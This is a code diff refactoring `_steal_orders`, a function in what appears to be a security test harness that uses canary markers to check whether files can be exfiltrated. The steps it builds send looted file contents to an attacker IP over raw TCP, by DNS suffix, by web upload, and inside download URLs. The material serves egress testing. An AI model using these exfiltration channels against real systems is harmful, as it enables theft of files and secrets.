@@ -89,21 +89,23 @@ def _steal_orders(p: Probe, ctx: OrderContext) -> list[Step]:
     and a canary that arrives anywhere is still seen (``canary_sightings`` looks for each file's own)."""
     m = ctx.markers
     steps: list[Step] = []
-    web_tag = m.steal_tag(WEB_LABEL)
     for i, path in enumerate(ctx.loot):
         label = f"s{i}"
         tag = m.steal_tag(label)
-        first = i == 0
-        web_hosts = dict.fromkeys([*ctx.hosts, *allowed_names(ctx, WEB_LABEL), m.fresh_host(WEB_LABEL)]) if first else {}
         steps.append({
             "op": "steal", "path": ctx.rebase(path),
             "tcp": {"host": ctx.attacker_ip, "port": ctx.raw.at(TCP_SINK_PORT), "prefix": tag + "\n"},
-            "dns_suffix": m.steal_dns_suffix(label),
-            "urls": [web_url(ctx, h, f"/upload/{web_tag}") for h in web_hosts],
-            # a download whose URL ends in what was read: where the attacker reads request URLs, that is a way out
-            "get_urls": [web_url(ctx, h, f"/npm/{web_tag}/") for h in ctx.urls] if first else [],
-            "also": [ctx.rebase(q) for q in ctx.loot[1:]] if first else [],
+            "dns_suffix": m.steal_dns_suffix(label), "urls": [], "get_urls": [], "also": [],
         })
+    if steps:
+        web_tag = m.steal_tag(WEB_LABEL)
+        web_hosts = dict.fromkeys([*ctx.hosts, *allowed_names(ctx, WEB_LABEL), m.fresh_host(WEB_LABEL)])
+        steps[0].update(
+            urls=[web_url(ctx, h, f"/upload/{web_tag}") for h in web_hosts],
+            # a download whose URL ends in what was read: where the attacker reads request URLs, that is a way out
+            get_urls=[web_url(ctx, h, f"/npm/{web_tag}/") for h in ctx.urls],
+            also=[ctx.rebase(q) for q in ctx.loot[1:]],
+        )
     return steps
 
 
